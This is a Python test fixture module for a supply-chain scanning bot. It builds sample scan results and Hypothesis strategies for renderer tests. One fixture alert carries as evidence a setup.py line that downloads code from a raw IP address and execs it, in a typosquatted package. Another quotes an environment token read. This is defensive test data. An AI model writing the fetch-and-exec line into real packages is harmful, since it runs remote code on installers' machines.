"""Scan results shared by the renderer tests."""

from __future__ import annotations

import string

from hypothesis import strategies as st

from bot.model import (
    Action,
    Alert,
    AlertType,
    ChangeKind,
    Location,
    PackageResult,
    ScanResult,
    Severity,
    Verdict,
    canonicalize_name,
)


def alert(
    package: str,
    version: str,
    alert_type: AlertType,
    action: Action,
    message: str,
    *,
    file: str | None = None,
    line: int | None = None,
    evidence: str = "",
    severity: Severity = Severity.HIGH,
) -> Alert:
    return Alert(
        type=alert_type,
        severity=severity,
        action=action,
        message=message,
        package=canonicalize_name(package),
        version=version,
        file=file,
        line=line,
        evidence=evidence,
        artifact=f"{package}-{version}.tar.gz",
    )


def realistic_result() -> ScanResult:
    fastjsonx = PackageResult(
        name=canonicalize_name("fastjsonx"),
        change=ChangeKind.ADDED,
        old_version=None,
        new_version="1.0.2",
        alerts=(
            alert(
                "fastjsonx",
                "1.0.2",
                AlertType.TYPOSQUAT,
                Action.BLOCK,
                "The name imitates fastjsonschema, a popular project.",
            ),
            alert(
                "fastjsonx",
                "1.0.2",
                AlertType.INSTALL_NETWORK,
                Action.BLOCK,
                "Installing this package downloads and runs code from a raw IP address.",
                file="setup.py",
                line=14,
                evidence="data = urllib.request.urlopen('http://203.0.113.7/i.py').read()\n"
                "exec(data)",
            ),
        ),
        locations=(Location(path="requirements.txt", line=7),),
    )
    requests = PackageResult(
        name=canonicalize_name("requests"),
        change=ChangeKind.UPGRADED,
        old_version="2.31.0",
        new_version="2.32.3",
        locations=(Location(path="requirements.txt", line=3),),
    )
    tqdm = PackageResult(
        name=canonicalize_name("tqdm"),
        change=ChangeKind.UPGRADED,
        old_version="4.66.1",
        new_version="4.66.4",
        alerts=(
            alert(
                "tqdm",
                "4.66.4",
                AlertType.ENV_SECRETS,
                Action.WARN,
                "Reads SLACK_TOKEN from the environment; 4.66.1 did not.",
                file="tqdm/contrib/slack.py",
                line=41,
                evidence='token = os.environ["SLACK_TOKEN"]',
            ),
            alert(
                "tqdm",
                "4.66.4",
                AlertType.FRESH_RELEASE,
                Action.MONITOR,
                "Published 2 days ago.",
            ),
        ),
        locations=(Location(path="requirements.txt", line=9),),
    )
    httpcore = PackageResult(
        name=canonicalize_name("httpcore"),
        change=ChangeKind.ADDED,
        old_version=None,
        new_version="1.0.5",
        via=(canonicalize_name("httpx"),),
        alerts=(
            alert(
                "httpcore",
                "1.0.5",
                AlertType.NETWORK,
                Action.WARN,
                "Opens network connections.",
                file="httpcore/_backends/sync.py",
                line=12,
                evidence="sock = socket.create_connection(address, timeout)",
            ),
        ),
        locations=(Location(path="requirements.txt", line=5),),
        incomplete_reasons=("the wheel is over the 50 MB download limit",),
    )
    return ScanResult(
        packages=(fastjsonx, requests, tqdm, httpcore),
        manifests=("requirements.txt",),
        verdict=Verdict.BLOCK,
        duration_seconds=2.43,
        errors=("advisory database unreachable: timed out after 10 s",),
    )


# Random results for property tests: hostile characters everywhere a package controls.
_text = st.text(alphabet=string.printable + "`@|<>\u202e\u200b→é", max_size=120)
_alerts = st.builds(
    Alert,
    type=st.sampled_from(AlertType),
    severity=st.sampled_from(Severity),
    action=st.sampled_from(Action),
    message=_text,
    package=st.just(canonicalize_name("pkg")),
    version=st.none() | _text,
    file=st.none() | _text,
    line=st.none() | st.integers(0, 10**6),
    evidence=st.text(max_size=400),
)
_packages = st.builds(
    PackageResult,
    name=st.from_regex(r"[a-z][a-z0-9-]{0,30}", fullmatch=True).map(canonicalize_name),
    change=st.sampled_from(ChangeKind),
    old_version=st.none() | _text,
    new_version=st.none() | _text,
    alerts=st.lists(_alerts, max_size=8).map(tuple),
    via=st.lists(st.just(canonicalize_name("parent")), max_size=2).map(tuple),
    locations=st.just((Location(path="requirements.txt", line=1),)),
    incomplete_reasons=st.lists(_text, max_size=2).map(tuple),
)
scan_results = st.builds(
    ScanResult,
    packages=st.lists(_packages, max_size=25).map(tuple),
    manifests=st.just(("requirements.txt",)),
    verdict=st.sampled_from(Verdict),
    duration_seconds=st.floats(0, 10**6),
    errors=st.lists(_text, max_size=3).map(tuple),
)
